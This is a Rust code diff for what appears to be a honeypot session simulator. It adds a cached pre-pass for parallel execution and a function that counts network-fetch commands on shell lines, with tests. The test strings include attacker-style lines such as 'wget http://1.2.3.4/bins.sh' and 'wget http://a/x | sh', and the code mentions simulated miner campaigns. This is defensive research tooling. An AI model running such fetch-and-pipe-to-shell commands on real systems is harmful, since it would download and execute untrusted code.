@@ -68,6 +68,46 @@ impl ScriptCache {
     pub fn is_empty(&self) -> bool {
         self.len() == 0
     }
+
+    /// Serial pre-pass for a day's plans: compute (in plan order) every
+    /// distinct script outcome the plans will need, so that execution can
+    /// read the cache immutably — from any number of worker threads —
+    /// via [`execute_plan_prepared`] without locks.
+    ///
+    /// Visiting plans in order makes this byte-equivalent to the lazy fill
+    /// [`execute_plan_cached`] performs: each cache key is computed against
+    /// the honeypot profile of the first plan that needs it, exactly as the
+    /// lazy path would.
+    pub fn precompute_day(&mut self, ctx: &ExecCtx<'_>, plans: &[SessionPlan]) {
+        for plan in plans {
+            match plan.behavior {
+                Behavior::Script { campaign } => {
+                    let spec = ctx.catalog.get(campaign);
+                    let variant = spec.variant_on(plan.day);
+                    self.campaigns
+                        .entry((campaign.0, variant))
+                        .or_insert_with(|| {
+                            let fetcher = Box::new(CampaignFetcher {
+                                body: spec.payload_bytes(variant),
+                            });
+                            compute_outcome(ctx, plan.honeypot, &spec.script(variant), fetcher)
+                        });
+                }
+                Behavior::Recon { variant } => {
+                    let key = variant as u64 ^ (plan.seed % 8);
+                    self.recon.entry(key).or_insert_with(|| {
+                        compute_outcome(
+                            ctx,
+                            plan.honeypot,
+                            &recon_script(key),
+                            Box::new(hf_shell::NullFetcher),
+                        )
+                    });
+                }
+                _ => {}
+            }
+        }
+    }
 }
 
 /// Run a command list through a fresh shell and capture its outcome.
@@ -81,9 +121,7 @@ fn compute_outcome(
     let mut shell = hf_shell::ShellSession::new(profile, fetcher);
     let mut transfers = 0u32;
     for line in lines {
-        if is_transfer_line(line) {
-            transfers += 1;
-        }
+        transfers += transfer_count(line);
         shell.execute(line);
     }
     let ev = shell.take_events();
@@ -96,11 +134,45 @@ fn compute_outcome(
     }
 }
 
+/// Number of network-fetch commands on one shell line.
+///
+/// A line may chain several commands (`cd /tmp; wget a && wget b`); each
+/// fetch counts once, because each adds transfer time and resets the idle
+/// timer. Recognized fetchers — optionally behind a `busybox` prefix — are
+/// `wget`, `curl`, `ftpget`, and `tftp` in get mode (a `-g` flag, alone or
+/// combined as in `-gr`). Matching is on the command position only, so
+/// `echo wget` does not count, and a line is never counted twice for
+/// matching both a prefix and a substring pattern.
+fn transfer_count(line: &str) -> u32 {
+    line.split(['|', ';', '&'])
+        .filter(|seg| {
+            let mut toks = seg.split_whitespace();
+            let mut cmd = match toks.next() {
+                Some(t) => t,
+                None => return false,
+            };
+            if cmd == "busybox" {
+                cmd = match toks.next() {
+                    Some(t) => t,
+                    None => return false,
+                };
+            }
+            match cmd {
+                "wget" | "curl" | "ftpget" => true,
+                "tftp" => {
+                    toks.any(|t| t.starts_with('-') && !t.starts_with("--") && t[1..].contains('g'))
+                }
+                _ => false,
+            }
+        })
+        .count() as u32
+}
+
+/// Does the line run at least one fetch command? (Predicate form of
+/// [`transfer_count`]; execution paths use the count directly.)
+#[cfg(test)]
 fn is_transfer_line(line: &str) -> bool {
-    line.starts_with("wget ")
-        || line.starts_with("tftp ")
-        || line.contains(" wget ")
-        || line.contains("ftpget ")
+    transfer_count(line) > 0
 }
 
 /// Shared execution context (immutable per run).
@@ -135,7 +207,7 @@ pub fn execute_plan_cached(
     cache: &mut ScriptCache,
 ) -> SessionRecord {
     // Only shell-script behaviours benefit; everything else is identical.
-    let (outcome, tag_info): (ScriptOutcome, Option<(&str, String)>) = match plan.behavior {
+    let (outcome, tag_info): (&ScriptOutcome, Option<(&str, &str)>) = match plan.behavior {
         Behavior::Script { campaign } => {
             let spec = ctx.catalog.get(campaign);
             let variant = spec.variant_on(plan.day);
@@ -147,29 +219,70 @@ pub fn execute_plan_cached(
                         body: spec.payload_bytes(variant),
                     });
                     compute_outcome(ctx, plan.honeypot, &spec.script(variant), fetcher)
-                })
-                .clone();
-            (outcome, Some((spec.tag.label(), spec.name.clone())))
+                });
+            (&*outcome, Some((spec.tag.label(), spec.name.as_str())))
+        }
+        Behavior::Recon { variant } => {
+            let key = variant as u64 ^ (plan.seed % 8);
+            let outcome = cache.recon.entry(key).or_insert_with(|| {
+                compute_outcome(
+                    ctx,
+                    plan.honeypot,
+                    &recon_script(key),
+                    Box::new(hf_shell::NullFetcher),
+                )
+            });
+            (&*outcome, None)
+        }
+        _ => return execute_plan(ctx, plan, tags),
+    };
+    replay_cached(ctx, plan, outcome, tag_info, tags)
+}
+
+/// Execute a plan against a *read-only* script cache, pre-filled for the
+/// day by [`ScriptCache::precompute_day`]. This is the form the parallel
+/// day loop uses: the cache is shared immutably across worker threads, so
+/// a missing entry is a caller bug (the pre-pass must cover every plan it
+/// hands out) and panics rather than silently recomputing.
+pub fn execute_plan_prepared(
+    ctx: &ExecCtx<'_>,
+    plan: &SessionPlan,
+    tags: &mut TagDb,
+    cache: &ScriptCache,
+) -> SessionRecord {
+    let (outcome, tag_info): (&ScriptOutcome, Option<(&str, &str)>) = match plan.behavior {
+        Behavior::Script { campaign } => {
+            let spec = ctx.catalog.get(campaign);
+            let variant = spec.variant_on(plan.day);
+            let outcome = cache
+                .campaigns
+                .get(&(campaign.0, variant))
+                .expect("precompute_day must cover every campaign variant executed");
+            (outcome, Some((spec.tag.label(), spec.name.as_str())))
         }
         Behavior::Recon { variant } => {
             let key = variant as u64 ^ (plan.seed % 8);
             let outcome = cache
                 .recon
-                .entry(key)
-                .or_insert_with(|| {
-                    compute_outcome(
-                        ctx,
-                        plan.honeypot,
-                        &recon_script(key),
-                        Box::new(hf_shell::NullFetcher),
-                    )
-                })
-                .clone();
+                .get(&key)
+                .expect("precompute_day must cover every recon template executed");
             (outcome, None)
         }
         _ => return execute_plan(ctx, plan, tags),
     };
+    replay_cached(ctx, plan, outcome, tag_info, tags)
+}
 
+/// Shared tail of the cached paths: drive a real [`SessionDriver`] through
+/// auth and timing, injecting the cached shell outcome. Byte-identical to
+/// what the slow path records for the same plan, minus shell re-emulation.
+fn replay_cached(
+    ctx: &ExecCtx<'_>,
+    plan: &SessionPlan,
+    outcome: &ScriptOutcome,
+    tag_info: Option<(&str, &str)>,
+    tags: &mut TagDb,
+) -> SessionRecord {
     let mut rng = SmallRng::seed_from_u64(plan.seed);
     let client = ctx.pool.get(plan.client);
     let start = SimInstant::from_day_and_secs(plan.day, plan.start_secs.min(86_399));
@@ -214,8 +327,12 @@ pub fn execute_plan_cached(
     }
     let record = driver.into_record();
     if let Some((tag, campaign)) = tag_info {
-        for h in record.file_hashes.iter().chain(record.download_hashes.iter()) {
-            tags.record(*h, tag, &campaign);
+        for h in record
+            .file_hashes
+            .iter()
+            .chain(record.download_hashes.iter())
+        {
+            tags.record(*h, tag, campaign);
         }
     }
     record
@@ -303,14 +420,11 @@ pub fn execute_plan(ctx: &ExecCtx<'_>, plan: &SessionPlan, tags: &mut TagDb) -> 
             let variant = spec.variant_on(plan.day);
             login(&mut driver, ctx, spec.fixed_password, &mut rng);
             for line in spec.script(variant) {
-                let is_transfer = line.starts_with("wget ")
-                    || line.starts_with("tftp ")
-                    || line.contains(" wget ")
-                    || line.contains("ftpget ");
+                let transfers = transfer_count(&line);
                 if driver.run_command(&line, rng.gen_range(1..5)).is_none() {
                     break;
                 }
-                if is_transfer {
+                for _ in 0..transfers {
                     // Transfer time; resets the idle timer (CMD+URI sessions
                     // may legitimately exceed the 3-minute cap).
                     driver.external_transfer(rng.gen_range(2..120));
@@ -324,7 +438,11 @@ pub fn execute_plan(ctx: &ExecCtx<'_>, plan: &SessionPlan, tags: &mut TagDb) -> 
                 }
             }
             let record = driver.into_record();
-            for h in record.file_hashes.iter().chain(record.download_hashes.iter()) {
+            for h in record
+                .file_hashes
+                .iter()
+                .chain(record.download_hashes.iter())
+            {
                 tags.record(*h, spec.tag.label(), &spec.name);
             }
             return record;
@@ -403,7 +521,11 @@ mod tests {
         let f = fixture();
         let c = ctx(&f, true);
         let mut tags = TagDb::new();
-        let rec = execute_plan(&c, &plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet), &mut tags);
+        let rec = execute_plan(
+            &c,
+            &plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
+            &mut tags,
+        );
         assert!(rec.logins.is_empty());
         assert!(rec.commands.is_empty());
         assert_eq!(rec.protocol, Protocol::Telnet);
@@ -416,7 +538,11 @@ mod tests {
         let f = fixture();
         let c = ctx(&f, true);
         let mut tags = TagDb::new();
-        let rec = execute_plan(&c, &plan_with(Behavior::Scan { linger_secs: 75 }, Protocol::Ssh), &mut tags);
+        let rec = execute_plan(
+            &c,
+            &plan_with(Behavior::Scan { linger_secs: 75 }, Protocol::Ssh),
+            &mut tags,
+        );
         assert_eq!(rec.ended_by, hf_honeypot::EndReason::Timeout);
         assert_eq!(rec.duration_secs, 60);
         assert!(rec.ssh_client_version.is_some());
@@ -427,7 +553,11 @@ mod tests {
         let f = fixture();
         let c = ctx(&f, true);
         let mut tags = TagDb::new();
-        let rec = execute_plan(&c, &plan_with(Behavior::Scout { attempts: 3 }, Protocol::Ssh), &mut tags);
+        let rec = execute_plan(
+            &c,
+            &plan_with(Behavior::Scout { attempts: 3 }, Protocol::Ssh),
+            &mut tags,
+        );
         assert_eq!(rec.logins.len(), 3);
         assert!(!rec.login_succeeded());
         assert!(rec.commands.is_empty());
@@ -440,7 +570,12 @@ mod tests {
         let mut tags = TagDb::new();
         let rec = execute_plan(
             &c,
-            &plan_with(Behavior::LoginIdle { idle_to_timeout: true }, Protocol::Ssh),
+            &plan_with(
+                Behavior::LoginIdle {
+                    idle_to_timeout: true,
+                },
+                Protocol::Ssh,
+            ),
             &mut tags,
         );
         assert!(rec.login_succeeded());
@@ -454,7 +589,11 @@ mod tests {
         let f = fixture();
         let c = ctx(&f, true);
         let mut tags = TagDb::new();
-        let rec = execute_plan(&c, &plan_with(Behavior::Recon { variant: 2 }, Protocol::Ssh), &mut tags);
+        let rec = execute_plan(
+            &c,
+            &plan_with(Behavior::Recon { variant: 2 }, Protocol::Ssh),
+            &mut tags,
+        );
         assert!(rec.login_succeeded());
         assert!(!rec.commands.is_empty());
         assert!(rec.file_hashes.is_empty(), "recon must not create files");
@@ -468,7 +607,11 @@ mod tests {
         let c = ctx(&f, true);
         let h1 = f.eco.catalog.by_name("H1").unwrap().id;
         let mut tags = TagDb::new();
-        let rec1 = execute_plan(&c, &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh), &mut tags);
+        let rec1 = execute_plan(
+            &c,
+            &plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh),
+            &mut tags,
+        );
         let mut p2 = plan_with(Behavior::Script { campaign: h1 }, Protocol::Ssh);
         p2.seed = 12345;
         p2.honeypot = 17;
@@ -510,7 +653,11 @@ mod tests {
         let c = ctx(&f, true);
         let m1 = f.eco.catalog.by_name("M1").unwrap().id;
         let mut tags = TagDb::new();
-        let rec = execute_plan(&c, &plan_with(Behavior::Script { campaign: m1 }, Protocol::Ssh), &mut tags);
+        let rec = execute_plan(
+            &c,
+            &plan_with(Behavior::Script { campaign: m1 }, Protocol::Ssh),
+            &mut tags,
+        );
         assert_eq!(rec.file_hashes.len(), 2, "miner drops binary + config");
         assert!(rec.accessed_uri());
     }
@@ -524,5 +671,68 @@ mod tests {
         let mut t1 = TagDb::new();
         let mut t2 = TagDb::new();
         assert_eq!(execute_plan(&c, &p, &mut t1), execute_plan(&c, &p, &mut t2));
+    }
+
+    #[test]
+    fn transfer_count_recognizes_fetch_commands() {
+        // Plain fetchers in command position.
+        assert_eq!(transfer_count("wget http://1.2.3.4/bins.sh"), 1);
+        assert_eq!(transfer_count("curl -O http://1.2.3.4/x"), 1);
+        assert_eq!(transfer_count("ftpget -u a -p b host x x"), 1);
+        assert_eq!(transfer_count("tftp -g -r update.bin 1.2.3.4"), 1);
+        assert_eq!(transfer_count("tftp -gr update.bin 1.2.3.4"), 1);
+        assert_eq!(transfer_count("busybox wget http://1.2.3.4/x"), 1);
+        // tftp without get mode is not a fetch.
+        assert_eq!(transfer_count("tftp 1.2.3.4"), 0);
+        // Mentioning a fetcher is not running one.
+        assert_eq!(transfer_count("echo wget"), 0);
+        assert_eq!(transfer_count("cat wget.log"), 0);
+        // Chained fetches each count once — no prefix/substring double
+        // count, no collapsing to a single transfer.
+        assert_eq!(
+            transfer_count("cd /tmp; wget http://a/x && wget http://a/y"),
+            2
+        );
+        assert_eq!(transfer_count("wget http://a/x | sh"), 1);
+        assert_eq!(transfer_count("cd /tmp && chmod 777 ."), 0);
+    }
+
+    #[test]
+    fn is_transfer_line_wraps_count() {
+        assert!(is_transfer_line("wget http://a/x"));
+        assert!(!is_transfer_line("echo wget"));
+    }
+
+    #[test]
+    fn prepared_matches_cached_execution() {
+        let f = fixture();
+        let c = ctx(&f, true);
+        let h5 = f.eco.catalog.by_name("H5").unwrap().id;
+        let plans = vec![
+            plan_with(Behavior::Script { campaign: h5 }, Protocol::Telnet),
+            plan_with(Behavior::Recon { variant: 3 }, Protocol::Ssh),
+            plan_with(Behavior::Scan { linger_secs: 5 }, Protocol::Telnet),
+        ];
+        let mut lazy_cache = ScriptCache::new();
+        let mut lazy_tags = TagDb::new();
+        let lazy: Vec<_> = plans
+            .iter()
+            .map(|p| execute_plan_cached(&c, p, &mut lazy_tags, &mut lazy_cache))
+            .collect();
+
+        let mut pre_cache = ScriptCache::new();
+        pre_cache.precompute_day(&c, &plans);
+        assert_eq!(pre_cache.len(), lazy_cache.len());
+        let mut pre_tags = TagDb::new();
+        let prepared: Vec<_> = plans
+            .iter()
+            .map(|p| execute_plan_prepared(&c, p, &mut pre_tags, &pre_cache))
+            .collect();
+
+        assert_eq!(lazy, prepared);
+        assert_eq!(lazy_tags.len(), pre_tags.len());
+        for (h, e) in lazy_tags.iter() {
+            assert_eq!(pre_tags.tag(h), Some(e.tag.as_str()));
+        }
     }
 }
